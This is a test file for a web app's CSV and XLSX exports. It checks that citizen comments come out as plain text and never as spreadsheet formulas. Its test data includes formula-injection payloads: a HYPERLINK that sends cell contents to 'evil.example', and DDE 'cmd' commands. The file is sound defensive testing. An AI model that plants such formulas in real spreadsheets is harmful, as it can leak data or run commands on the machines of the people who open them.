import { parse } from 'csv-parse/sync';
import { ValueType } from 'exceljs';
import request from 'supertest';
import { unguarded } from '../../src/features/exports/exports.csv.js';
import { fromCellText } from '../../src/xlsx/xml.js';
import { openTestApp, type TestApp } from '../helpers/app.js';
import { addSite, staffToken } from '../helpers/installation.js';
import { postBatch, validResponse } from '../helpers/responses.js';
import { bytesOfAnswer, describeInLibreOffice, openWithExcelJs, readWithLibreOffice } from '../helpers/spreadsheets.js';

/** What citizens write arrives as they wrote it, and never as a formula. */
const COMMENTS: readonly (readonly [what: string, comment: string])[] = [
  ['a link', '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'],
  ['a command', "=cmd|' /C calc'!A0"],
  ['a number with a plus', '+1'],
  ['a sum with a minus', '-1+1'],
  ['a function with an at sign', '@SUM(1+1)*cmd|A0'],
  ['a full-width equals sign', '＝1+1'],
  ['a full-width plus', '＋1'],
  ['a full-width minus', '－1'],
  ['a full-width at sign', '＠SUM(A1)'],
  ['a tab first', '\t=1+1'],
  ['tabs', 'a\tb\tc'],
  ['a carriage return first', '\r=1+1'],
  ['line feeds', '=1+1\n=2+2'],
  ['line ends of both kinds', 'một\r\nhai\nba'],
  ['a second cell', 'a",=1+1,"'],
  ['a second row', 'a"\r\n=1+1,b'],
  ['separators', '=1;=2,=3'],
  ['1,000 characters', `=${'Ý'.repeat(999)}`],
  ['emoji', '👨‍👩‍👧‍👦🏳️‍🌈 😐'],
  ['an emoji after an equals sign', '=😐'],
  ['combining marks', 'Tie\u0302\u0301ng Vie\u0323\u0302t'],
  ['a combining mark first', '\u0301=1'],
  ['text from right to left', '\u202E=1+1'],
  ['a byte order mark first', '\uFEFF=1+1'],
  ['markup', '<f>1+1</f>&amp;]]><!--'],
  ['what SpreadsheetML reads as an escape', '_x003D_1+1'],
];

let sipas: TestApp;
let csv: ReadonlyMap<string, string>;
let xlsx: Buffer;
/** The comment of each response, by its id. */
const sent = new Map<string, string>();
const texts = COMMENTS.map(([, comment]) => comment);

beforeAll(async () => {
  sipas = await openTestApp();
  const admin = await staffToken(sipas.services, 'admin');
  const site = await addSite(sipas.services, { centre: 'QN', name: '=HYPERLINK("http://evil.example","QN")' });
  const responses = texts.map((comment) => validResponse({ comment }));
  for (const [index, { id }] of responses.entries()) sent.set(id, texts[index]!);
  const { body } = await postBatch(sipas, site.token, responses);
  expect(new Set(body.results.map(({ status }: { status: string }) => status))).toEqual(new Set(['stored']));
  const get = (format: string) =>
    request(sipas.app)
      .get(`/api/v1/exports/responses.${format}?period=2026-11`)
      .set('Authorization', `Bearer ${admin}`);
  const rows: Record<string, string>[] = parse(await bytesOfAnswer(get('csv')), { columns: true, bom: true });
  csv = new Map(rows.map((row) => [sent.get(row['id']!)!, row['comment']!]));
  xlsx = await bytesOfAnswer(get('xlsx'));
});
afterAll(() => sipas.close());

describe.each(COMMENTS)('%s in a comment', (_, comment) => {
  it('is text in a CSV, and the same text', () => {
    const cell = csv.get(comment)!;
    expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    expect(unguarded(cell)).toBe(comment);
  });

  it('is text in a workbook, and the same text', async () => {
    const sheet = (await openWithExcelJs(xlsx)).getWorksheet('responses')!;
    const header = sheet.getRow(1).values as unknown[];
    const row = sheet.getRows(2, sent.size)!.find((one) => sent.get(one.getCell(1).text) === comment)!;
    const cell = row.getCell(header.indexOf('comment'));
    expect(cell.type).toBe(ValueType.String);
    // ExcelJS leaves escapes of SpreadsheetML as they stand in the file.
    expect(fromCellText(cell.text)).toBe(comment);
  });
});

it('no cell of a workbook holds a formula', async () => {
  const formulas: string[] = [];
  (await openWithExcelJs(xlsx)).eachSheet((sheet) => {
    sheet.eachRow((row) => row.eachCell((cell) => cell.formula && formulas.push(cell.address)));
  });
  expect(formulas).toEqual([]);
});

describeInLibreOffice('in LibreOffice', () => {
  /** It keeps no carriage returns: its lines end in a line feed. */
  const inLibreOffice = (text: string) => text.replace(/\r\n?/g, '\n');

  it('comments are the text that was written', async () => {
    const [header = [], ...rows] = (await readWithLibreOffice(xlsx))['responses'] ?? [];
    const column = header.indexOf('comment');
    const read = rows.map((row) => inLibreOffice(String(row[column])));
    const wanted = rows.map((row) => inLibreOffice(sent.get(String(row[0]))!));
    expect(read).toEqual(wanted);
  });
});
